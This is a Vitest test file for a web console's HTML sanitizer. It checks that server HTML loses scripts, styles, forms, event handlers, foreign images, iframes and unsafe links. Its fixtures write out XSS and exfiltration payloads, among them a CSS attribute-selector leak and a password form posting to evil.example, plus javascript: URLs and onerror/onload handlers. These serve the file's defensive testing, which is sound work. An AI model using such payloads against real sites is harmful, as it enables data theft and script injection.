// @vitest-environment jsdom
// The one policy for server HTML, payload class by payload class, with the exact result. The
// image host is the API host; in mock mode (these tests) it is the page's own origin.
import { describe, expect, it } from 'vitest';
import { imageSource, inertDocument, sanitizeHtml, sanitizeNodes, webLink } from '../../src/sanitize/policy';

const ORIGIN = window.location.origin;

describe('the server HTML policy', () => {
  it('drops <style> with its rules, including CSS attribute-selector exfiltration', () => {
    expect(
      sanitizeHtml(
        '<style>input[value^="ak_"]{background:url(https://evil.example/leak?p=ak_)}</style><p>Notes</p>',
      ),
    ).toBe('<p>Notes</p>');
    expect(sanitizeHtml('<p>a<style>@import "https://evil.example/x.css";</style>b</p>')).toBe('<p>ab</p>');
  });

  it('drops a <form> posting elsewhere with its fields, labels and buttons', () => {
    expect(
      sanitizeHtml(
        '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p"></label><textarea>secret</textarea><select><option>one</option></select><button formaction="https://evil.example/">Send</button></form><p>after</p>',
      ),
    ).toBe('<p>after</p>');
    expect(sanitizeHtml('<p>x<input name="password" autofocus onfocus="alert(1)">y</p>')).toBe('<p>xy</p>');
  });

  it('drops inline style, so a fixed overlay is ordinary text', () => {
    expect(
      sanitizeHtml('<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>'),
    ).toBe('<div>Session expired</div>');
  });

  it('drops images from any other host, protocol-relative and data: ones included', () => {
    expect(
      sanitizeHtml(
        '<p>a<img src="https://evil.example/x.png" alt="pixel">b<img src="//evil.example/y.png">c<img src="data:image/png;base64,iVBORw0KGgo=">d<img srcset="https://evil.example/z.png 2x">e</p>',
      ),
    ).toBe('<p>abcde</p>');
  });

  it('keeps images of the image host, resolving relative sources against it', () => {
    expect(sanitizeHtml('<img src="/news-images/7001" alt="Cover">')).toBe(
      `<img src="${ORIGIN}/news-images/7001" alt="Cover">`,
    );
    expect(sanitizeHtml(`<img src="${ORIGIN}/news-images/7002">`)).toBe(
      `<img src="${ORIGIN}/news-images/7002">`,
    );
  });

  it('keeps http(s) and mailto links, opened in a new tab without opener or referrer', () => {
    expect(sanitizeHtml('<a href="https://docs.example/a">Docs</a>')).toBe(
      '<a href="https://docs.example/a" target="_blank" rel="noopener noreferrer">Docs</a>',
    );
    expect(sanitizeHtml('<a href="mailto:help@example.com" target="_self">Mail</a>')).toBe(
      '<a href="mailto:help@example.com" target="_blank" rel="noopener noreferrer">Mail</a>',
    );
  });

  it('drops javascript:, data:, relative and in-page links (the text stays)', () => {
    expect(
      sanitizeHtml(
        '<a href="javascript:alert(1)">j</a><a href=" JaVaScRiPt:alert(1)">k</a><a href="data:text/html,<script>alert(1)</script>">d</a><a href="/home">r</a><a href="#added">f</a>',
      ),
    ).toBe('<a>j</a><a>k</a><a>d</a><a>r</a><a>f</a>');
  });

  it('keeps in-page links when asked (rendered markdown), without a new tab', () => {
    expect(sanitizeHtml('<a href="#added">Added</a>', { fragmentLinks: true })).toBe(
      '<a href="#added">Added</a>',
    );
    expect(sanitizeHtml('<a href="javascript:alert(1)">j</a>', { fragmentLinks: true })).toBe('<a>j</a>');
  });

  it('removes <script> with its text, and the same for noscript, template, title and xmp', () => {
    expect(
      sanitizeHtml(
        '<p>a</p><script>alert(2)</script><noscript>ns</noscript><template>tp</template><title>tt</title><xmp>xm</xmp><p>b</p>',
      ),
    ).toBe('<p>a</p><p>b</p>');
  });

  it('drops <svg onload> and <math> with what they hold', () => {
    expect(
      sanitizeHtml('<p>a</p><svg onload="alert(1)"><text>svg text</text></svg><math><mi>x</mi></math>'),
    ).toBe('<p>a</p>');
  });

  it('drops <iframe>, <object> and <embed>', () => {
    expect(
      sanitizeHtml(
        '<iframe src="https://evil.example/">frame</iframe><object data="https://evil.example/x">obj</object><embed src="https://evil.example/y"><p>ok</p>',
      ),
    ).toBe('<p>ok</p>');
  });

  it('drops <meta http-equiv=refresh>, <base href> and <link>', () => {
    expect(
      sanitizeHtml(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>',
      ),
    ).toBe('<p>ok</p>');
  });

  it('drops event handlers', () => {
    expect(sanitizeHtml('<p onclick="alert(1)" onmouseover="alert(2)">t</p>')).toBe('<p>t</p>');
  });

  it("keeps only the console's own class names and prefixes ids, so neither hooks the page's CSS", () => {
    expect(sanitizeHtml('<p class="ant-modal-mask relatedsearches" id="root">c</p>')).toBe(
      '<p class="relatedsearches" id="user-content-root">c</p>',
    );
    expect(sanitizeHtml('<p class="ant-layout-sider">c</p>')).toBe('<p>c</p>');
  });

  it('keeps what the article editor produces and the search-ads marker', () => {
    const article =
      '<h2>Title</h2><h3>Sub</h3><p><strong>Bold</strong> <em>italic</em> <s>gone</s> <code>x</code></p><ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>q</p></blockquote><hr><p>a<br>b</p><div data-type="relatedsearches" class="relatedsearches"></div>';
    expect(sanitizeHtml(article)).toBe(article);
  });

  it('keeps the marker attribute only with its own value', () => {
    expect(sanitizeHtml('<div data-type="x" data-evil="1">d</div>')).toBe('<div>d</div>');
  });
});

describe('image and link checks for single addresses', () => {
  it('imageSource: the image host only', () => {
    expect(imageSource('/news-images/1')).toBe(`${ORIGIN}/news-images/1`);
    expect(imageSource('https://evil.example/x.png')).toBeUndefined();
    expect(imageSource('javascript:alert(1)')).toBeUndefined();
    expect(imageSource(42)).toBeUndefined();
  });

  it('webLink: absolute http(s) and mailto only', () => {
    expect(webLink('https://docs.example/a')).toBe('https://docs.example/a');
    expect(webLink('javascript:alert(1)')).toBeUndefined();
    expect(webLink('/relative')).toBeUndefined();
    expect(webLink(undefined)).toBeUndefined();
  });
});

// Chromium checks the content policy as soon as a handler attribute is parsed into a document of
// the page's window (tests/e2e/sanitizerPolicy.spec.ts proves it in the browser): server HTML is
// parsed in a frame sandboxed without scripts, never in the page's own document.
describe('where server HTML is parsed', () => {
  const sandboxes = () =>
    [...document.querySelectorAll('iframe')].filter((frame) => frame.hasAttribute('sandbox'));

  it('in one hidden frame sandboxed without scripts, made again when it was removed', () => {
    expect(sanitizeHtml('<p onclick="alert(1)">a</p>')).toBe('<p>a</p>');
    const [frame] = sandboxes();
    expect(sandboxes()).toHaveLength(1);
    expect(frame.getAttribute('sandbox')).toBe('allow-same-origin');
    expect(frame.hidden).toBe(true);
    sanitizeHtml('<img src="x" onerror="alert(1)">');
    expect(sandboxes()).toEqual([frame]);

    frame.remove();
    expect(sanitizeHtml('<b onmouseover="alert(1)">b</b>')).toBe('<b>b</b>');
    expect(sandboxes()).toHaveLength(1);
    expect(sandboxes()[0]).not.toBe(frame);
  });

  it("builds and sanitizes markdown nodes in that frame's documents, not the page's", () => {
    const inert = inertDocument();
    expect(inert).not.toBe(document);
    const holder = inert.createElement('div');
    holder.innerHTML = '<p onclick="alert(1)">text</p>';
    const clean = sanitizeNodes(holder);
    expect(clean.ownerDocument).not.toBe(document);
    expect((clean.firstChild as Element).outerHTML).toBe('<div><p>text</p></div>');
  });
});
